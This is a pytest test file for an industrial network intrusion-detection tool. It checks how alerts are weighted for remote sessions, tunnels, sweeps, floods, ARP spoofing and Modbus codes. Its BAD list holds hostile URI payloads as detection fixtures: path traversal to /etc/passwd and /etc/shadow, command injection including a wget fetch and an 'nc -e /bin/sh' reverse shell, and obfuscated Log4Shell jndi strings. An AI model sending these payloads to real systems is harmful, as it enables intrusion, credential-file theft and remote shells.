"""What the detections on sessions, tools, sweeps, web requests and floods weigh, beyond their own two cases."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, strategies as st

from linewarden.detections.catalogue import detection
from linewarden.detections.knowledge import Knowledge, Role
from linewarden.detections.lateral_movement.http_exploit import climbs, loads, plain
from linewarden.detections.run import Run, Told
from tests.detections.build import frame, play

SESSION = {"id.resp_h": "10.0.1.5", "id.resp_p": 22, "proto": "tcp", "service": "ssh", "conn_state": "SF",
           "orig_bytes": 900, "resp_bytes": 900}  # fmt: skip
PLANT = Knowledge(
    roles={"10.0.1.5": Role.SCADA, "10.0.1.1": Role.CONTROLLER, "10.0.1.9": Role.SAFETY_CONTROLLER,
           "10.0.0.2": Role.SWITCH},
    levels={"10.0.1.5": 2, "10.0.1.6": 2, "10.0.1.1": 1, "10.0.1.9": 1, "10.0.3.3": 3, "10.0.4.4": 4},
)  # fmt: skip


def severities(name: str, stream: str, rows: list[dict[str, Any]], known: Knowledge = PLANT) -> list[str]:
    return [t.notice.severity for t in play(detection(name), {stream: rows}, known)]


@pytest.mark.parametrize(
    ("sender", "weight"),
    [("8.8.4.4", "high"), ("10.0.4.4", "high"), ("10.0.3.3", "medium"), ("10.0.9.9", "medium"), ("10.0.1.6", "low")],
)
def test_a_session_weighs_by_where_it_comes_from(sender: str, weight: str) -> None:
    assert severities("remote_session_across_zones", "conn", [{**SESSION, "id.orig_h": sender}]) == [weight]


def test_a_plant_may_use_public_addresses_as_its_own() -> None:
    public = Knowledge(roles={"141.81.0.11": Role.CONTROLLER}, levels={"141.81.0.11": 5, "141.81.0.12": 5})
    row = {**SESSION, "id.orig_h": "141.81.0.12", "id.resp_h": "141.81.0.11"}
    assert severities("remote_session_across_zones", "conn", [row], public) == ["medium"]


def test_a_session_within_a_zone_is_nobodys_concern_and_between_two_is() -> None:
    row = {**SESSION, "id.orig_h": "10.0.1.6"}
    same = Knowledge(levels=PLANT.levels, zones={"10.0.1.6": "line 1", "10.0.1.5": "line 1"})
    other = Knowledge(levels=PLANT.levels, zones={"10.0.1.6": "line 2", "10.0.1.5": "line 1"})
    assert severities("remote_session_across_zones", "conn", [row], same) == []
    assert severities("remote_session_across_zones", "conn", [row], other) == ["medium"]


@pytest.mark.parametrize(
    ("port", "service", "said"),
    [(5986, "tls", "WinRM"), (5985, "http", "WinRM"), (3389, None, "RDP"), (22, "http", "")],
)
def test_sessions_are_known_by_port_where_the_content_does_not_say(port: int, service: str | None, said: str) -> None:
    row = {**SESSION, "id.orig_h": "10.0.4.4", "id.resp_p": port, "service": service}
    told = play(detection("remote_session_across_zones"), {"conn": [row]}, PLANT)
    assert [said in t.notice.msg for t in told] == ([True] if said else [])


@pytest.mark.parametrize(
    ("stream", "row", "weight"),
    [
        ("dns", {"query": "relay.anydesk.com.", "id.orig_h": "10.0.1.5"}, ["medium"]),
        ("tls", {"server_name": "relay.anydesk.com", "id.orig_h": "10.0.1.5"}, ["high"]),
        ("http", {"host": "client.teamviewer.com:80", "id.orig_h": "10.0.4.4"}, ["low"]),
        ("tls", {"server_name": "anydesk.com.example.org", "id.orig_h": "10.0.1.5"}, []),
        ("conn", {"id.orig_h": "10.0.1.5", "id.resp_h": "9.9.9.9", "id.resp_p": 51820, "proto": "udp",
                  "orig_bytes": 9, "resp_bytes": 9}, ["high"]),
        ("conn", {"id.orig_h": "8.8.4.4", "id.resp_h": "10.0.1.5", "id.resp_p": 443, "proto": "udp",
                  "service": "openvpn", "orig_bytes": 9, "resp_bytes": 9}, ["high"]),
        ("conn", {"id.orig_h": "10.0.4.4", "id.resp_h": "10.0.1.5", "id.resp_p": 443, "proto": "udp",
                  "service": "wireguard", "orig_bytes": 9, "resp_bytes": 9}, []),
        ("conn", {"id.orig_h": "8.8.4.4", "id.resp_h": "9.9.9.9", "id.resp_p": 51820, "proto": "udp",
                  "orig_bytes": 9, "resp_bytes": 9}, []),
        ("conn", {"id.orig_h": "8.8.4.4", "id.resp_h": "10.0.1.5", "id.resp_p": 500, "proto": "udp",
                  "orig_bytes": 9, "resp_bytes": 0}, []),
    ],
)  # fmt: skip
def test_tools_and_tunnels(stream: str, row: dict[str, Any], weight: list[str]) -> None:
    assert severities("remote_access_tool", stream, [row]) == weight


def test_a_public_peer_is_told_once_here_or_as_inbound() -> None:
    base = {"proto": "tcp", "service": "modbus", "id.resp_p": 502, "orig_bytes": 12, "resp_bytes": 9}
    inward = {**base, "id.orig_h": "8.8.4.4", "id.resp_h": "10.0.1.1"}
    outward = {**base, "id.orig_h": "10.0.1.1", "id.resp_h": "8.8.4.4"}
    assert severities("public_peer_on_ot_port", "conn", [inward]) == []
    assert severities("inbound_from_outside", "conn", [inward]) == ["high"]
    assert severities("public_peer_on_ot_port", "conn", [outward]) == ["medium"]
    assert severities("inbound_from_outside", "conn", [outward]) == []


ENDPOINT = {"id.orig_h": "10.0.9.9", "id.resp_h": "10.0.1.5", "service": "endpoints", "security_mode": "sign"}
CLEAR = {"id.orig_h": "10.0.9.9", "id.resp_h": "10.0.1.5", "service": "create_session", "security_policy": "None"}


@pytest.mark.parametrize("rows", [[ENDPOINT, CLEAR], [CLEAR, ENDPOINT]])
def test_the_offer_may_be_seen_before_or_after_the_session(rows: list[dict[str, Any]]) -> None:
    assert severities("unencrypted_though_offered", "opcua", rows) == ["low"]


def test_another_servers_offer_does_not_count() -> None:
    assert severities("unencrypted_though_offered", "opcua", [{**ENDPOINT, "id.resp_h": "10.0.1.6"}, CLEAR]) == []


BAD = [
    "/../../etc/passwd", "/a/..%2f..%2f..%2fetc/shadow", "/%252e%252e/%252e%252e/boot.ini", "/x?f=....//../etc/passwd",
    "/x?p=..\\..\\..\\windows\\win.ini", "/cgi?ip=1;/bin/id", "/cgi?ip=1%0awget%20http://h/x", "/cgi?c=`id`",
    "/cgi?c=$(reboot)", "/x?a=${jndi:ldap://h/a}", "/x?a=$%7bjndi:dns://h%7d", "/x?a=${${::-j}${::-n}di:rmi://h/a}",
    "/cgi?ip=1|nc%20-e%20/bin/sh%20h%201", "/cgi?ip=1&&cat${IFS}/etc/passwd", "/portal/..;/manager",
    "/x?a=${${env:NaN:-j}ndi${env:NaN:-:}ldap://h/a}",
]  # fmt: skip
GOOD = [
    "/", "/a/b/../c", "/style.css?v=1..2", "/list?show=id|name|place", "/p;jsessionid=12?id=5", "/search?q=cat;dog",
    "/Portal/Portal.mwsl?PriNav=Start", "/api?expr=${value}", "/x?next=../home", "/x?q=a%26b&&c=d", "/q?x=a%7Cls%7Cb",
]  # fmt: skip


@pytest.mark.parametrize("uri", BAD)
def test_web_requests_that_are_meant_badly(uri: str) -> None:
    row = {"id.orig_h": "10.0.0.66", "id.resp_h": "10.0.1.5", "method": "GET", "uri": uri, "status_code": 200}
    assert severities("http_exploit", "http", [row]) == ["high"]
    assert severities("http_exploit", "http", [{**row, "status_code": 404}]) == ["medium"]


@pytest.mark.parametrize("uri", GOOD)
def test_web_requests_that_only_look_so(uri: str) -> None:
    row = {"id.orig_h": "10.0.0.66", "id.resp_h": "10.0.1.5", "method": "GET", "uri": uri, "status_code": 200}
    assert severities("http_exploit", "http", [row]) == []


@given(st.text(alphabet="${}:-jndilowera/.%;|` ", max_size=200))
def test_any_text_is_judged_and_judging_ends(text: str) -> None:
    assert loads(plain(text)) in (True, False)
    assert climbs(plain(text)) in (True, False)


@given(st.lists(st.sampled_from(["a", "b", "..", "."]), max_size=8))
def test_a_path_climbs_if_and_only_if_it_leaves_its_root(parts: list[str]) -> None:
    depths, depth = [], 0
    for part in parts:
        depth += {"..": -1, ".": 0}.get(part, 1)
        depths.append(depth)
    assert climbs("/" + "/".join(parts)) is any(d < 0 for d in depths)


def asked(unit: int, second: int, answered: int = 0) -> dict[str, Any]:
    return {"ts": second * 10**9, "protocol": "modbus", "verb": "read", "function": "read_coils", "unit": unit,
            "id.orig_h": "10.0.0.66", "id.resp_h": "10.0.1.1", "answered": answered,
            "result": "ok" if answered else "unanswered"}  # fmt: skip


def test_a_line_whose_devices_were_alive_before_is_no_sweep() -> None:
    alive = [asked(u, u, 1) for u in range(1, 31)]
    assert severities("unit_id_sweep", "command", [*alive, *(asked(u, 60 + u) for u in range(1, 31))]) == []


def test_a_sweep_is_told_also_if_some_answer_and_batches_are_cut_anywhere() -> None:
    rows = [asked(u, u, int(u % 10 == 0)) for u in range(1, 31)]
    run, told = Run([detection("unit_id_sweep")], PLANT), []
    for i in range(0, len(rows), 7):
        told += run.add("command", frame("command", rows[i : i + 7], 1 + i))
    assert [t.notice.severity for t in told] == ["medium"]


def test_a_search_for_slots_of_a_rack() -> None:
    rows = [{"ts": i, "id.orig_h": "10.0.0.66", "id.resp_h": "10.0.1.1", "rack": 0, "slot": i} for i in range(6)]
    assert severities("unit_id_sweep", "s7comm", rows) == ["medium"]
    assert severities("unit_id_sweep", "s7comm", [{**r, "slot": 2} for r in rows]) == []


def identify(second: int, count: int = 30) -> dict[str, Any]:
    return {"ts": second * 10**9, "protocol": "enip", "verb": "browse", "function": "list_identity",
            "id.orig_h": "10.0.3.3", "id.resp_h": "10.0.1.255", "count": count}  # fmt: skip


def test_a_burst_weighs_little_and_its_habit_nothing() -> None:
    assert severities("discovery_burst", "command", [identify(0)]) == ["low"]
    assert severities("discovery_burst", "command", [identify(0, 5)]) == []
    daily = [identify(h * 3600, 5) for h in range(3)]
    assert severities("discovery_burst", "command", [*daily, identify(4 * 3600)]) == []


def test_a_walk_through_ranges_of_bacnet_numbers() -> None:
    walk = [
        {"ts": i, "function": "who_is", "low": 100 * i, "high": 100 * i + 99, "id.orig_h": "10.0.0.66",
         "id.resp_h": "10.0.1.255"}
        for i in range(8)
    ]  # fmt: skip
    assert severities("discovery_burst", "bacnet", walk) == ["low"]
    assert severities("discovery_burst", "bacnet", [{**w, "low": 1, "high": 1} for w in walk]) == []


SET = {"pdu_name": "set_request", "id.orig_h": "10.0.0.66", "id.resp_h": "10.0.0.2", "reply_pdu": 2, "error_status": 0}


@pytest.mark.parametrize(
    ("change", "weight"),
    [
        ({"oid": "1.3.6.1.2.1.16.22.1.3.1.1.4.1"}, "medium"),
        ({"oid": "1.3.6.1.2.1.1.5.0"}, "low"),
        ({"oid": "1.3.6.1.2.1.2.2.1.7.1", "error_status": 16}, "low"),
        ({"oid": "1.3.6.1.2.1.2.2.1.7.1", "reply_pdu": None}, "low"),
    ],
)
def test_what_was_set_on_a_switch(change: dict[str, Any], weight: str) -> None:
    assert severities("switch_changed", "snmp", [{**SET, **change}]) == [weight]


def test_a_mirror_port_is_told_as_listening() -> None:
    told = play(detection("switch_changed"), {"snmp": [{**SET, "oid": "1.3.6.1.2.1.16.22.1.3.1"}]}, PLANT)
    assert told[0].notice.techniques.split()[0] == "T0842"


def begun(n: int, target: str, ports: int = 1) -> list[dict[str, Any]]:
    return [{"ts": i * 10**6, "id.orig_h": "10.0.0.66", "id.resp_h": target, "id.resp_p": 1 + i % ports, "proto": "tcp",
             "conn_state": "S0"} for i in range(n)]  # fmt: skip


def test_a_flood_is_no_scan_and_weighs_by_its_target() -> None:
    assert severities("traffic_flood", "conn", begun(2000, "10.0.1.1", ports=1000)) == []
    assert severities("traffic_flood", "conn", begun(400, "10.0.1.1")) == ["high"]
    assert severities("traffic_flood", "conn", begun(400, "10.0.1.9")) == ["critical"]
    assert severities("traffic_flood", "conn", begun(400, "10.0.4.4")) == ["low"]


def test_packets_count_against_what_was_usual() -> None:
    busy = {"id.orig_h": "10.0.1.5", "id.resp_h": "10.0.1.1", "id.resp_p": 502, "proto": "tcp", "conn_state": "SF",
            "duration": 10.0}  # fmt: skip
    usual = {**busy, "orig_pkts": 4_000}
    assert severities("traffic_flood", "conn", [usual, {**busy, "orig_pkts": 30_000}]) == []
    assert severities("traffic_flood", "conn", [usual, {**busy, "orig_pkts": 50_000}]) == ["high"]
    assert severities("traffic_flood", "conn", [{**busy, "orig_pkts": 500_000, "service": "cip_io"}]) == []


def weird(i: int, name: str = "modbus_framing_lost", **more: Any) -> dict[str, Any]:
    return {"ts": i * 10**9, "protocol": "modbus", "name": name, "id.orig_h": "10.0.0.66", "id.resp_h": "10.0.1.1",
            "count": 5, **more}  # fmt: skip


def test_broken_messages_weigh_more_if_they_are_of_many_kinds() -> None:
    assert severities("protocol_anomalies", "weird", [weird(i) for i in range(4)]) == ["low"]
    assert severities("protocol_anomalies", "weird", [weird(i, f"modbus_{i}") for i in range(4)]) == ["medium"]
    assert severities("protocol_anomalies", "weird", [weird(i * 30) for i in range(4)]) == []
    assert severities("protocol_anomalies", "weird", [weird(i, protocol=None) for i in range(9)]) == []


def test_that_we_had_no_time_to_read_a_message_is_no_fault_of_its_sender() -> None:
    spent = [weird(i, "bacnet_rich_budget_exceeded", protocol="bacnet") for i in range(9)]
    assert severities("protocol_anomalies", "weird", spent) == []


def test_the_same_request_refused_forever_is_a_wrong_setting_not_a_search() -> None:
    row = {"protocol": "modbus", "verb": "read", "function": "read_coils", "unit": 1, "id.orig_h": "10.0.0.66",
           "id.resp_h": "10.0.1.1", "answered": 1, "errors": 1, "result": "illegal_data_address"}  # fmt: skip
    same = [{**row, "ts": i, "target": "coil 7"} for i in range(40)]
    many: list[dict[str, Any]] = [{**row, "ts": i, "target": f"coil {i}"} for i in range(12)]
    assert severities("requests_refused", "command", same) == []
    told: list[Told] = play(detection("requests_refused"), {"command": many}, PLANT)
    assert [t.notice.techniques.split()[0] for t in told] == ["T0861"]


@given(st.integers(0, 4000))
def test_memory_ends_however_many_addresses_there_are(first: int) -> None:
    rows = [{**asked(u % 200, u), "id.orig_h": f"10.{first % 250}.{u // 250}.{u % 250}"} for u in range(60)]
    assert severities("unit_id_sweep", "command", rows) == []


OPERATE = {"protocol": "dnp3", "verb": "write", "function": "direct_operate", "id.resp_h": "10.0.1.1", "unit": 0xFFFF}


def test_a_command_to_all_weighs_by_its_sender() -> None:
    assert severities("command_to_all", "command", [{**OPERATE, "id.orig_h": "10.0.0.66"}]) == ["high"]
    assert severities("command_to_all", "command", [{**OPERATE, "id.orig_h": "10.0.1.5"}]) == ["medium"]
    one = {**OPERATE, "id.orig_h": "10.0.0.66", "protocol": "modbus"}
    assert severities("command_to_all", "command", [one]) == []
    assert severities("command_to_all", "command", [{**one, "id.resp_h": "10.0.1.255"}]) == ["high"]


@pytest.mark.parametrize(("sender", "weight"), [("8.8.4.4", "high"), ("10.0.0.66", "low")])
def test_who_joins_a_building_from_outside(sender: str, weight: str) -> None:
    row = {"protocol": "bacnet", "verb": "subscribe", "function": "register_foreign_device", "id.orig_h": sender,
           "id.resp_h": "10.0.1.1"}  # fmt: skip
    assert severities("bacnet_foreign_device", "command", [row]) == [weight]
    assert severities("bacnet_foreign_device", "command", [{**row, "errors": 1, "answered": 1}]) == ["low"]


@pytest.mark.parametrize(
    ("change", "weight"),
    [({}, ["medium"]), ({"resp_bytes": 0}, ["low"]), ({"service": "tls"}, []), ({"id.resp_p": 22}, [])],
)
def test_a_shell_on_an_industrial_port(change: dict[str, Any], weight: list[str]) -> None:
    row = {**SESSION, "id.orig_h": "10.0.0.66", "id.resp_p": 502, "direction": "syn"}
    assert severities("wrong_protocol_on_ot_port", "conn", [{**row, **change}]) == weight


def function_codes(*codes: int, **more: Any) -> list[tuple[str, str]]:
    rows = [
        {"ts": i * 10**9, "id.orig_h": "10.0.9.9", "id.orig_p": 50_000, "id.resp_h": "10.0.1.1", "id.resp_p": 502,
         "func": code, **more}
        for i, code in enumerate(codes)
    ]  # fmt: skip
    found = play(detection("unassigned_function"), {"modbus": rows}, PLANT)
    return [(t.notice.severity, t.notice.msg) for t in found]


@pytest.mark.parametrize(("code", "more", "severity"), [
    (42, {}, "low"), (0, {}, "low"), (66, {}, "info"), (105, {}, "info"), (126, {}, "medium"), (40, {}, "medium"),
    (126, {"exception": 1, "exception_name": "illegal_function", "resp_frame": 9}, "low"),
    (66, {"id.resp_h": "10.0.1.9"}, "medium"),
])  # fmt: skip
def test_a_code_weighs_by_what_it_is(code: int, more: dict[str, Any], severity: str) -> None:
    [(found, msg)] = function_codes(code, **more)
    assert found == severity and f"code {code} " in msg


def test_a_walk_through_the_codes_is_told_once_beside_its_kinds() -> None:
    found = function_codes(*range(25, 128))
    assert sorted(s for s, _ in found) == ["info", "low", "medium", "medium"]
    assert sum("tries them out" in msg for _, msg in found) == 1


def test_an_answer_that_nobody_asked_for_is_the_servers_but_a_refusal_is_not() -> None:
    turned = {"id.orig_h": "10.0.1.1", "id.orig_p": 502, "id.resp_h": "10.0.9.9", "id.resp_p": 4446}
    for ends in ({}, turned):
        [(_, msg)] = function_codes(42, frame=7, resp_frame=7, **ends)
        assert msg.startswith("10.0.1.1 answers 10.0.9.9 unasked")
    [(_, msg)] = function_codes(42, frame=7, resp_frame=7, exception=1, exception_name="illegal_function")
    assert msg.startswith("10.0.9.9 sends 10.0.1.1 function code 42")


def arp(ts_s: float, mac: int, ip: str, wanted: str, **more: Any) -> dict[str, Any]:
    sender = f"02:00:00:00:00:{mac:02x}"
    return {
        "ts": int(ts_s * 1e9), "opcode": 1, "operation": "request", "is_orig": True, "id.orig_h": sender,
        "id.resp_h": "ff:ff:ff:ff:ff:ff", "src_mac": sender, "src_ip": ip, "dst_ip": wanted, **more,
    }  # fmt: skip


def spoofer(pause_s: float, *wanted: str, times: int = 12) -> list[dict[str, Any]]:
    """Asks for each in turn, before each of its answers, which are not heard here."""
    return [
        arp(n * pause_s + 0.01 * i, 0x66, "10.0.1.66", ip) for n in range(times) for i, ip in enumerate(wanted)
    ]  # fmt: skip


ALIVE = arp(0, 0x11, "10.0.1.1", "10.0.1.200")


@pytest.mark.parametrize(("rows", "count"), [
    ([ALIVE, *spoofer(2, "10.0.1.1", "10.0.1.5")], 1),
    ([ALIVE, *spoofer(3.5, "10.0.1.1", "10.0.1.5")], 1),
    ([ALIVE, *spoofer(20, "10.0.1.1", "10.0.1.5")], 0),  # as a host does whose memory is short
    ([ALIVE, *spoofer(2, "10.0.1.1")], 0),
    (spoofer(2, "10.0.1.1", "10.0.1.5"), 0),  # nobody is there: it asks on, as any host does
    ([ALIVE, *spoofer(2, "10.0.1.1", *(f"10.0.1.{n}" for n in range(20, 30)))], 0),  # a search
    ([{**r, "resp_frame": 9} for r in spoofer(2, "10.0.1.1", "10.0.1.5")], 1),  # answered, and asked anew
    ([ALIVE, *({**r, "id.resp_h": "02:00:00:00:00:11"} for r in spoofer(2, "10.0.1.1", "10.0.1.5"))], 0),
])  # fmt: skip
def test_who_asks_anew_for_two_neighbours_that_are_there(rows: list[dict[str, Any]], count: int) -> None:
    assert severities("asked_anew", "arp", sorted(rows, key=lambda r: r["ts"])) == ["medium"] * count


def refused(*addresses: int) -> list[dict[str, Any]]:
    return [
        {"ts": i * 10**9, "id.orig_h": "10.0.9.9", "id.resp_h": "10.0.1.1", "id.resp_p": 502, "unit": 1, "func": 3,
         "function": "read_holding_registers", "address": a, "quantity": 1, "exception": 2,
         "exception_name": "illegal_data_address"}
        for i, a in enumerate(addresses)
    ]  # fmt: skip


def test_addresses_that_do_not_exist_are_counted_where_commands_sum_them_up() -> None:
    assert severities("requests_refused", "modbus", refused(*range(12))) == ["medium"]
    assert severities("requests_refused", "modbus", refused(*range(11))) == []
    assert severities("requests_refused", "modbus", refused(*[7] * 60)) == [], "one wrong setting, again and again"
    other = [{**row, "exception": 3, "exception_name": "illegal_data_value"} for row in refused(*range(12))]
    assert severities("requests_refused", "modbus", other) == []


def test_who_calls_out_below_ip_and_above_is_one_machine() -> None:
    said = (("enip", "list_identity"), ("bacnet", "who_has"), ("profinet_dcp", "identify"))
    ends = ("10.0.0.66", "10.0.0.66", "02:00:00:00:00:66")
    rows = [
        {"ts": i * 10**9, "protocol": p, "verb": "browse", "function": f, "target": "device", "id.orig_h": end,
         "id.resp_h": "ff:ff:ff:ff:ff:ff"}
        for i, ((p, f), end) in enumerate(zip(said, ends, strict=True))
    ]  # fmt: skip
    one = Knowledge(ids={"10.0.0.66": "laptop", "02:00:00:00:00:66": "laptop"})
    assert severities("discovery_burst", "command", rows, one) == ["medium"]
    assert severities("discovery_burst", "command", rows, Knowledge()) == []


@pytest.mark.parametrize(("new", "weight"), [(True, ["low"]), (False, [])])
def test_a_panel_that_is_new_is_no_excuse_for_reading_everything(new: bool, weight: list[str]) -> None:
    ends = {"id.orig_h": "10.0.9.9", "id.resp_h": "10.0.1.1", "id.resp_p": 502}
    reads = [
        {**ends, "verb": "read", "protocol": "modbus", "function": "read", "target": f"{area} 0-127", "answered": 1,
         "result": "ok"}
        for area in ("coil", "discrete_input")
    ]  # fmt: skip
    news = [
        {**ends, "kind": "peer", "subject": "10.0.1.1", "peer": "10.0.9.9", "protocol": "modbus", "confidence": 0.8}
    ]
    known = Knowledge(roles={"10.0.9.9": Role.HMI})
    streams: list[dict[str, list[dict[str, Any]]]] = [
        {"command": reads, **({"novelty": news} if new else {})},
        {**({"novelty": news} if new else {}), "command": reads},
    ]
    for records in streams:
        assert [t.notice.severity for t in play(detection("io_image_read"), records, known)] == weight
